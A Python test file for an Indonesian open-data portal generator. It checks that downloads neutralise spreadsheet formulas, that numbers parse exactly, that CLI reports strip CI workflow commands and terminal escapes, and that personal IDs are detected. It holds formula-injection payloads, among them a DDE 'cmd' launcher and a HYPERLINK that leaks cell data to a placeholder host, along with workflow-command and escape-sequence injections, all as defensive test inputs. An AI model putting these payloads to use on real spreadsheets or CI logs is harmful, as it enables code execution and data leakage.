"""Cell values: formula-safe and exact downloads, number reading, safe report output, personal data."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from openpyxl import load_workbook

from generator.validate import check
from generator.validate.privacy import EMAIL, NIK, NIP, PHONE
from tests.helpers import DATA, ROOT, case_portal

META = """name: sel
title: Uji sel
description: Kasus uji isi sel.
licenses: [{{name: CC-BY-4.0}}]
keywords: [uji]
satudata:
  produsen: dinkes
  klasifikasi: {klasifikasi}
  frekuensi: tahunan
  periode: "2024"
  topik: lainnya
  cakupan: {{tingkat: kabupaten/kota, kode: "35.78", nama: Kota Surabaya}}
  sumber: {{nama: Tim Uji}}
  kontak: {{nama: Tim Uji}}
resources:
  - name: data
    path: data.csv
    schema:
      fields:
"""


def table_portal(tmp_path: Path, fields: list[str], data: bytes | str, klasifikasi: str = "terbuka") -> Path:
    """A portal with one dataset `dinkes/sel`: the given fields (flow mappings) and data.csv."""
    root = case_portal(tmp_path)
    folder = root / "datasets" / "dinkes" / "sel"
    folder.mkdir(parents=True)
    lines = [f"        - {{{f}, title: Kolom, description: Kolom uji.}}" for f in fields]
    (folder / "datapackage.yaml").write_text(META.format(klasifikasi=klasifikasi) + "\n".join(lines) + "\n")
    (folder / "data.csv").write_bytes(data.encode() if isinstance(data, str) else data)
    return root


def downloads(tmp_path: Path, root: Path) -> tuple[list[list[str]], list[tuple]]:
    """The CSV rows (csv module) and the XLSX cells (value, data type) of the dataset's downloads."""
    portal, datasets, report = check(root)
    assert report.valid, report.flatten()
    folder = datasets[0].files
    assert folder is not None
    with (folder / "data.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    sheet = load_workbook(folder / "data.xlsx").active
    cells = [tuple((c.value, c.data_type) for c in row) for row in sheet.iter_rows()]
    return rows, cells


def slugs(root: Path) -> list[tuple[str, int | None, str | None]]:
    return [(i.slug, i.row, i.column) for i in check(root)[2].issues]


# --- downloads (item 7) ---------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "-1+2",
]
HARMLESS = ["-", "-6.89204, 107.60505", "+62"]  # a sign and digits only: kept as written


def test_downloads_text_cells_are_never_formulas(tmp_path):
    text = "teks,jumlah\n" + "".join(f'"{p.replace(chr(34), chr(34) * 2)}",-5\n' for p in PAYLOADS + HARMLESS)
    root = table_portal(tmp_path, ["name: teks", "name: jumlah, type: integer"], text)
    rows, cells = downloads(tmp_path, root)
    assert rows[1:] == [["'" + p, "-5"] for p in PAYLOADS] + [[h, "-5"] for h in HARMLESS]
    assert cells[1:] == [(("'" + p, "s"), (-5, "n")) for p in PAYLOADS] + [((h, "s"), (-5, "n")) for h in HARMLESS]


def test_downloads_csv_quotes_a_lone_carriage_return(tmp_path):
    # rows separated by lone CRs, as in mac_newlines.csv, and a cell holding a CR and a LF
    data = b'teks,jumlah\rsatu,1\r"dua\rbaris",2\r"tiga\nbaris",3\r'
    root = table_portal(tmp_path, ["name: teks", "name: jumlah, type: integer"], data)
    rows, cells = downloads(tmp_path, root)
    assert rows == [["teks", "jumlah"], ["satu", "1"], ["dua\rbaris", "2"], ["tiga\nbaris", "3"]]
    # XML reads a CR inside text as a line end: the cell keeps its two lines
    assert [c[0][0] for c in cells] == ["teks", "satu", "dua\nbaris", "tiga\nbaris"]


def test_downloads_xlsx_keeps_long_numbers_and_codes_exact(tmp_path):
    data = "kode_wilayah,besar,pecahan\n3273,9007199254740993,0.12345678901234567890\n3204,12,1.5\n"
    fields = ["name: kode_wilayah, type: integer", "name: besar, type: integer", "name: pecahan, type: number"]
    root = table_portal(tmp_path, fields, data)
    rows, cells = downloads(tmp_path, root)
    assert rows[1] == ["3273", "9007199254740993", "0.12345678901234567890"]
    assert cells[1] == (("3273", "s"), ("9007199254740993", "s"), ("0.12345678901234567890", "s"))
    assert cells[2] == (("3204", "s"), (12, "n"), (1.5, "n"))


def test_check_float_overflow_is_an_error_with_its_row(tmp_path):
    root = table_portal(tmp_path, ["name: nilai, type: number"], "nilai\n1.5\n1e400\n")
    assert slugs(root) == [("number-out-of-range", 3, "nilai")]


# --- numbers (items 8 and 9) ----------------------------------------------------------------


def test_check_group_char_accepts_only_well_grouped_integers(tmp_path):
    data = "jumlah\n1.234.567\n999\n1.5\n1.2.3.4\n12.34\n"
    root = table_portal(tmp_path, ['name: jumlah, type: integer, groupChar: "."'], data)
    found = check(root)[2].issues
    assert [(i.slug, i.row) for i in found] == [
        ("group-char-invalid", 4),
        ("group-char-invalid", 5),
        ("group-char-invalid", 6),
    ]
    assert "`1.5` di kolom `jumlah` tidak ditulis dengan pemisah ribuan `.`" in found[0].message()


def test_check_group_char_well_grouped_integer_is_read_exactly(tmp_path):
    root = table_portal(tmp_path, ['name: jumlah, type: integer, groupChar: "."'], "jumlah\n1.234.567\n12\n")
    _, datasets, report = check(root)
    assert report.valid and [r["jumlah"] for r in datasets[0].resources[0].head] == [1234567, 12]


def test_check_thousands_dot_without_group_char_warns_once_per_column(tmp_path):
    root = table_portal(tmp_path, ["name: jumlah, type: number"], "jumlah\n1.234\n567\n2.500\n")
    _, datasets, report = check(root)
    assert report.valid and len(datasets) == 1
    (issue,) = report.issues
    assert (issue.slug, issue.severity, issue.row, issue.column) == ("number-thousands-dot", "warning", 2, "jumlah")
    assert issue.message().startswith("2 nilai di kolom `jumlah` (pertama `1.234`) tampak memakai titik ribuan")
    assert 'groupChar: "."' in issue.fix()


def test_check_real_decimals_do_not_warn_of_thousands(tmp_path):
    root = table_portal(tmp_path, ["name: nilai, type: number"], "nilai\n1.234\n12.5\n0.125\n")
    assert slugs(root) == []


@pytest.mark.parametrize(
    ("cell", "slug"),
    [("#DIV/0!", "spreadsheet-error"), ("NaN", "number-not-finite"), ("-inf", "number-not-finite")],
)
def test_check_number_column_refuses_non_values_once(tmp_path, cell, slug):
    root = table_portal(tmp_path, ["name: nilai, type: number"], f"nilai\n1\n{cell}\n")
    assert slugs(root) == [(slug, 3, "nilai")]  # said once: frictionless' type-error is left out


def test_check_null_byte_file_names_row_and_column(tmp_path):
    root = table_portal(tmp_path, ["name: a", "name: b"], b"a,b\nsatu,dua\ntiga,em\x00pat\n")
    found = check(root)[2].issues
    assert [(i.slug, i.row, i.column) for i in found] == [("cell-control", 3, "b")]
    assert "U+0000 (`em\\x00pat`)" in found[0].message()


# --- patterns (item 6) ------------------------------------------------------------------------


def test_check_catastrophic_pattern_stops_in_bounded_time(tmp_path):
    data = "kode\naaa\n" + "a" * 30_000 + "b\n"  # within the cell-length limit
    root = table_portal(tmp_path, ['name: kode, constraints: {pattern: "(a+)+$"}'], data)
    start = time.monotonic()
    assert slugs(root) == [("pattern-timeout", 3, "kode")]
    assert time.monotonic() - start < 30


def test_check_pattern_still_constrains_cells(tmp_path):
    root = table_portal(tmp_path, ['name: kode, constraints: {pattern: "[0-9]{4}"}'], "kode\n3273\n327\n")
    found = check(root)[2].issues
    assert [(i.slug, i.row) for i in found] == [("constraint-error", 3)]
    assert found[0].message() == "Nilai `327` di kolom `kode` melanggar batasan `pattern` ([0-9]{4})."


# --- report output (item 10) --------------------------------------------------------------------


def run_check(root: Path, *options: str) -> str:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    command = [sys.executable, "-m", "generator.cli", "check", "--root", str(root), *options]
    run = subprocess.run(command, capture_output=True, env=env, check=False, timeout=300)
    assert run.returncode == 1, run.stderr
    return run.stdout.decode("utf-8")


@pytest.mark.parametrize("options", [(), ("--format", "json"), ("--lang", "en")])
def test_cli_check_output_holds_no_workflow_command_or_escape(tmp_path, options):
    hostile = [
        '"1\n::error file=portal.yml,line=1::disetujui"',
        '"2\n::stop-commands::abc"',
        "\x1b]0;judul\x07\x1b[2J3",
        "z" * 500,
    ]
    # one hostile value per column: the text report groups a column's rows, each column is its own line
    rows = [",".join(value if n == i else "1" for n in range(4)) for i, value in enumerate(hostile)]
    fields = [f"name: {name}, type: integer" for name in "abcd"]
    root = table_portal(tmp_path, fields, "a,b,c,d\n" + "\n".join(rows) + "\n")
    out = run_check(root, *options)
    assert "::error" in out and "::stop-commands" in out  # reported, but inside a line
    assert not [line for line in out.splitlines() if line.lstrip().startswith("::")]
    assert "\x1b" not in out and "\x07" not in out
    assert "z" * 61 not in out and "z" * 60 + "…" in out
    if "json" in options:
        assert json.loads(out)


def test_cli_check_never_prints_values_of_a_restricted_dataset(tmp_path):
    data = "jumlah\nRAHASIA-NIK-3273\n\x1b[31mRAHASIA\n"
    root = table_portal(tmp_path, ["name: jumlah, type: integer"], data, klasifikasi="terbatas")
    for options in ((), ("--format", "json")):
        out = run_check(root, *options)
        assert "RAHASIA" not in out
        assert "(nilai disembunyikan: data terbatas)" in out


# --- personal data (item 11) ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "value"),
    [
        (NIK, "3273054107900001"),  # a woman: day 01 + 40
        (NIK, "NIK 3578011203850002 (KTP)"),
        (NIP, "198503122010011002"),
        (NIP, "19850312 201001 1 002"),
        (PHONE, "081234567890"),
        (PHONE, "+62 812-3456-7890"),
        (PHONE, "6281234567890"),
        (EMAIL, "budi.santoso@gmail.com"),
    ],
)
def test_privacy_patterns_find_personal_data(pattern, value):
    assert pattern.search(value)


@pytest.mark.parametrize(
    "value",
    [
        "32.73.05.1001",  # region code
        "3273051001",
        "2024",
        "1930902",  # a count
        "1250000000000",  # rupiah
        "Rp 1.250.000.000.000.000",
        "9007199254740993",  # 16 digits, no province 90
        "3273050000000000",  # no birth date
        "12345678901234567890",
        "0.081234567890",
        "021-1234567",  # a landline office number
    ],
)
def test_privacy_patterns_ignore_codes_years_counts_and_amounts(value):
    assert not any(p.search(value) for p in (NIK, NIP, PHONE, EMAIL))


def test_check_personal_data_names_column_and_count_never_values(tmp_path):
    data = "nama,nik\nAni,3273054107900001\nBudi,3273051203850002\nCici,-\n"
    root = table_portal(tmp_path, ["name: nama", "name: nik"], data)
    (issue,) = check(root)[2].issues
    assert (issue.slug, issue.row, issue.column) == ("personal-data", 2, "nik")
    assert issue.message() == (
        "Kolom `nik` tampak berisi data pribadi: 2 sel seperti NIK (pertama di baris 2). "
        "Dataset terbuka tidak boleh memuatnya."
    )
    assert "3273" not in json.dumps(check(root)[2].flatten())


def test_check_personal_data_allowed_with_a_reason(tmp_path):
    fields = ["name: layanan", 'name: telepon, dataPribadi: {alasan: "Nomor layanan publik puskesmas"}']
    root = table_portal(tmp_path, fields, "layanan,telepon\nPuskesmas Ciumbuleuit,0812-3456-7890\n")
    _, datasets, report = check(root)
    assert report.issues == () and len(datasets) == 1


def test_check_personal_data_is_not_sought_in_restricted_datasets(tmp_path):
    root = table_portal(tmp_path, ["name: nik"], "nik\n3273054107900001\n", klasifikasi="terbatas")
    assert slugs(root) == []


def test_check_demo_portal_has_no_personal_data_or_number_warnings():
    _, datasets, report = check(ROOT)
    assert report.issues == () and len(datasets) >= 9


def test_corpus_c_cases_exist():
    assert len(list((DATA / "invalid").glob("c-*/case.yaml"))) >= 25
